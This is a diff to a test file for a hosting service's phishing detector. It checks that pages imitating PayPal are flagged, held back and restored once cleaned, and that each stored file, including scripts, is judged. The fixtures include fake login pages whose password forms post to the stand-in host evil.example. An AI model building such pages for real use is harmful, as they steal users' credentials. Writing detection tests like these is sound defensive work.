@@ -15,7 +15,7 @@ import { reinstateSite, suspendSite } from './suspend-site.ts';
 const HONEST =
   '<!doctype html><html><head><title>Bakery</title></head><body><h1>Bread</h1></body></html>';
 const SUSPECT =
-  '<!doctype html><html><head><title>Club</title></head><body><p>Netflix: your payment failed</p><form action="https://evil.example/x"><input type="password"></form></body></html>';
+  '<!doctype html><html><head><title>Club</title></head><body><p>Members</p><form action="https://evil.example/x"><input type="password"></form></body></html>';
 const PHISHING =
   '<!doctype html><html><head><title>PayPal</title></head><body><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form></body></html>';
 
@@ -204,11 +204,31 @@ test('a page that imitates a brand is saved and held back until it is changed', 
   expect((await readSite({ ctx, input: { uuid } })).html).toBe(PHISHING);
   expect(ctx.logged).toContainEqual({
     event: 'sec.site_flagged',
-    fields: { site: uuid, signs: ['foreign-form', 'brand-credentials', 'imitation'] },
+    fields: { site: uuid, signs: ['secret', 'foreign-form', 'brand-claim', 'brand-voice'] },
   });
   const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
   expect(cleaned.site.status).toBe('active');
   expect((await call(url)).status).toBe(200);
+});
+
+test('every file of a site is judged, those that an earlier save stored too', async () => {
+  const { ctx, uuid, url } = await publish();
+  const login = '<h1>Sign in to PayPal</h1><input type="password">';
+  const held = await saveSite({
+    ctx,
+    input: { uuid, html: HONEST, assets: { 'a/b.html': login } },
+  });
+  const kept = await saveSite({ ctx, input: { uuid, html: `${HONEST}<!-- 2 -->` } });
+  expect([held.site.status, kept.site.status, (await call(url)).status]).toEqual([
+    'held',
+    'held',
+    403,
+  ]);
+  const removed = { uuid, html: HONEST, assets: { 'a/b.html': null } };
+  expect((await saveSite({ ctx, input: removed })).site.status).toBe('active');
+  const script = { 'a.js': 'document.body.innerHTML = `<h1>PayPal</h1><input type=password>`' };
+  const scripted = await saveSite({ ctx, input: { uuid, html: HONEST, assets: script } });
+  expect(scripted.site.status).toBe('held');
 });
 
 test('a page that is held back is shown once a review has put it back', async () => {
@@ -231,7 +251,7 @@ test('a page that looks like phishing is saved, flagged, noted and shown with a 
   ]);
   expect(ctx.logged).toContainEqual({
     event: 'sec.site_flagged',
-    fields: { site: uuid, signs: ['foreign-form', 'brand-credentials'] },
+    fields: { site: uuid, signs: ['secret', 'foreign-form'] },
   });
   const cleaned = await saveSite({ ctx, input: { uuid, html: HONEST } });
   expect(cleaned.site.status).toBe('active');
